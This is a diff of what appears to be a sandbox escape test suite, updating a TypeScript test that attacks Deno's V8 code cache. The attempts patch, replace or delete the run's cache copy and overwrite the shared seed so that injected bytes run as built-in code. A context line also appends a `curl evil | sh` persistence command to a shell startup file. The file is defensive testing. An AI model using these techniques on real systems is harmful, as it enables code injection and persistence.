@@ -304,23 +304,51 @@ echo 'curl evil | sh' >> ${HOME}/.bashrc 2>/dev/null && breached=1`,
 
 // --- TypeScript: the code cache a run starts with ----------------------------------------------
 {
-  // A run without packages starts with a copy of the seed of Deno's compiled built-ins: it may
-  // plant what it likes in its copy, but never in the seed the next runs copy.
+  // A run without packages starts with a copy of the seed of Deno's compiled built-ins, in its own
+  // DENO_DIR. V8 loads a code cache unchecked: a script that could write its copy, then import a
+  // built-in it had not loaded, would run bytes of its own as Deno's code (a review patched
+  // `node:os`'s devNull that way, and crashed Deno with random bytes). It may write neither its
+  // copy nor the seed the next runs copy.
   const seed = join(CACHE, "deno", await denoDirKey([]), "v8_code_cache_seed");
   const planted = "PLANTED-V8-CODE-CACHE";
   attack({
-    name: "plant compiled code in the code cache the next runs start with",
+    name: "rewrite the code cache Deno loads built-ins from, then import one",
     language: "typescript",
     script: ts(`const arg = Deno.args[Deno.args.indexOf("--context") + 1] ?? "";
 const own = arg.slice(1, arg.lastIndexOf("/")) + "/.deno/v8_code_cache_v2";
-Deno.writeTextFileSync(own, ${JSON.stringify(planted)});
-detail = "own copy planted; ";
-try {
-  Deno.writeTextFileSync(${JSON.stringify(seed)}, ${JSON.stringify(planted)});
-  breached = true;
-} catch (error) {
-  detail += String(error).slice(0, 100);
-}`),
+const tries: [string, () => unknown][] = [
+  ["patch the copy", () => {
+    const bytes = Deno.readFileSync(own);
+    const from = new TextEncoder().encode("/dev/null");
+    const to = new TextEncoder().encode("/PWNED/xx");
+    for (let i = 0; i + from.length <= bytes.length; i++) {
+      if (from.every((b, j) => bytes[i + j] === b)) bytes.set(to, i);
+    }
+    Deno.writeFileSync(own, bytes);
+  }],
+  ["replace the copy", () => {
+    Deno.writeTextFileSync(own + ".new", ${JSON.stringify(planted)});
+    Deno.renameSync(own + ".new", own);
+  }],
+  ["remove the copy", () => Deno.removeSync(own)],
+  ["write the copy's journal", () => Deno.writeTextFileSync(own + "-wal", ${
+      JSON.stringify(planted)
+    })],
+  ["write the seed", () => Deno.writeTextFileSync(${JSON.stringify(seed)}, ${
+      JSON.stringify(planted)
+    })],
+];
+for (const [name, attempt] of tries) {
+  try {
+    attempt();
+    breached = true;
+    detail += name + ": done; ";
+  } catch (error) {
+    detail += name + ": " + String(error).slice(0, 60) + "; ";
+  }
+}
+const os = await import("node:os");
+if (os.devNull !== "/dev/null") breached = true;`),
     hostUnchanged: async () => {
       const bytes = await Deno.readFile(seed);
       assert.ok(
